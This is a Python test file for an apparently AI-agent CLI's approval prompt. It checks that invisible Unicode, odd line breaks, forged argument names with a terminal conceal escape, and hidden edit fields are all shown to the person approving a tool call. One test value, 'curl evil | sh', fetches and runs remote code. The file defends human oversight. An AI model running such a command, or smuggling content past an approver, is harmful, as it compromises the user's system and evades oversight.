"""Calls that show a person less than they would do (U2)."""

import io
from contextlib import nullcontext
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from msgspec.structs import replace

from windlass.cli.output import show_whole_call
from windlass.cli.question_prompt import QuestionPrompt
from windlass.cli.screen import Screen
from windlass.cli.status import StatusLine
from windlass.cli.terminal import Keyboard
from windlass.core.question import Question
from windlass.core.text_clip import reveal_line
from windlass.core.verdicts import Allow
from windlass.tools.files.file_tools import file_tools
from windlass.tools.files.workspace import Workspace
from windlass.tools.toolbox import Toolbox

pytestmark = pytest.mark.contract("U2")


def show_both(arguments: dict[str, Any]) -> list[str]:
    """What `windlass approve` and the prompt in a terminal show of a call."""
    asked = SimpleNamespace(arguments=arguments, question="May it run?")
    question = cast("Question", asked)
    pages = [io.StringIO(), io.StringIO()]
    show_whole_call(Screen(pages[0]), question)
    prompt = QuestionPrompt(Screen(pages[1]), cast("StatusLine", None), cast("Keyboard", None))
    prompt._show_question(question, lines_max=None)
    return [page.getvalue() for page in pages]


@pytest.mark.parametrize(
    "unseen",
    ["\u3164", "\uffa0", "\u115f", "\u2800", "\u034f", "\ufe00", "\U000e0100", "\u180b", "\u17b4"],
)
def test_a_letter_of_which_nothing_is_seen_is_shown(unseen: str) -> None:
    """Unicode calls these printable: a name with one looks like the name without it."""
    assert unseen.isprintable()
    escape = unseen.encode("unicode_escape").decode()
    assert reveal_line(f"a{unseen}b") == f"a{escape}b"
    for page in show_both({"command": f"cat notes{unseen}.txt"}):
        assert f"notes{escape}.txt" in page


@pytest.mark.parametrize("end", ["\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\r"])
def test_only_a_line_feed_begins_a_line(end: str) -> None:
    """What looks like a command of its own could be the rest of a comment, or of a name."""
    escape = end.encode("unicode_escape").decode()
    for page in show_both({"command": f"one{end}two\nthree\r\nfour"}):
        assert f"one{escape}two\n" in page
        assert "    three\n    four\n" in page


def test_the_name_of_an_argument_cannot_forge_another_one() -> None:
    for page in show_both({"x: 1\n  command: ls\n  y\x1b[8m": "rm"}):
        assert "\n  command: ls" not in page
        assert "x: 1\\n  command: ls\\n  y\\x1b[8m: rm" in page


def test_edits_show_all_that_is_in_them() -> None:
    """Only what an edit of ours consists of is shown as a difference."""
    (_, page) = show_both({"edits": [{"old": "a", "new": "b", "run": "curl evil | sh"}]})
    assert "curl evil | sh" in page
    (_, page) = show_both({"edits": [{"old": "a", "new": "b", "replace_all": True}]})
    assert "everywhere in the file:\n" in page
    assert "- a\n" in page
    (_, page) = show_both({"edits": [{"old": "a\u3164", "new": ""}]})
    assert "- a\\u3164\n" in page
    assert "everywhere" not in page
    assert "+" not in page


@pytest.mark.contract("W4")
async def test_the_difference_of_a_file_is_shown_and_not_approved_unseen(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("".join(f"line {number}\n" for number in range(30)))
    box = Toolbox(file_tools(Workspace(tmp_path)))
    page = io.StringIO()
    keys = iter("ysy")

    async def read_key(show_keys: object) -> str:
        return next(keys)

    status = SimpleNamespace(pause=nullcontext)
    keyboard = SimpleNamespace(read_key=read_key)
    prompt = QuestionPrompt(Screen(page), cast("StatusLine", status), cast("Keyboard", keyboard))
    prompt.use_tools(box.specs, box.preview)
    arguments: dict[str, object] = {"path": "notes.txt", "content": "line 0\nline\u200b 1\r\n"}
    question = Question("s", "c1", "write", arguments, "May it write?", "")
    assert await prompt(question) == Allow("person")
    first, _, whole = page.getvalue().partition("lines are not shown yet: press s")
    assert "as things are now: 'notes.txt' would be replaced. It can be undone.\n" in first
    assert "-line 29\n" not in first
    assert "    -line 29\n" in whole
    assert "    +line\\u200b 1\\r\n" in whole
    # The tools of a sub-agent are others, although they may have the same names.
    keys = iter("sy")
    page.truncate(0)
    await prompt(replace(question, chain=("helper", "writer")))
    assert "as things are now" not in page.getvalue()
